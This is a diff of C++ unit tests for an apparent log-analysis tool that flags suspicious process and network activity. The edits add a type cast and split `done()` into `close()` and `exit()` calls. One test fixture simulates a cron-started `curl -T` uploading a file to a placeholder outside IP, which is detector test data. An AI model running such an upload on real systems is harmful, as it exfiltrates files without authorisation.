@@ -139,7 +139,7 @@ TEST_CASE("bounds: one datagram socket, a million peers") {
   stream.call(41, 3, 1, 900, 2, 2);
   for (std::uint32_t i = 0; i < kMillion; ++i) {
     const std::string peer =
-        "saddr=" + saddr(fmt::format("203.0.{}.{}", i / 200 % 250, i % 200), 1024 + i % 5);
+        "saddr=" + saddr(fmt::format("203.0.{}.{}", i / 200 % 250, i % 200), static_cast<int>(1024 + i % 5));
     stream.call(44, 10, 1, 900, 3, 0x7f, 10, peer);
   }
   CHECK(stream.bound("peers") > 100'000);
@@ -206,7 +206,8 @@ TEST_CASE("bounds: one process's arguments") {
   log.exec(400, "/usr/bin/curl", argv);
   log.tcp(400, 3, kDrop, 80);
   log.send(400, 3, 10);
-  log.done(400);
+  log.close(400, 3);
+  log.exit(400);
   const auto facts = tell(log, options);
   REQUIRE(facts.size() == 1);
   CHECK(has_note(facts[0], "not in the log whole"));
@@ -239,7 +240,8 @@ TEST_CASE("bounds: forgetting processes does not forget who started the next job
   log.run(301, 302, "/usr/bin/curl", {"curl", "-T", "f", "http://203.0.113.9/"});
   log.tcp(302, 3, kDrop, 80);
   log.send(302, 3, 150);
-  log.done(302);
+  log.close(302, 3);
+  log.exit(302);
   const auto facts = tell(log, options);
   REQUIRE(facts.size() == 1);
   CHECK(sign_of(facts[0]) == "unattended cron");
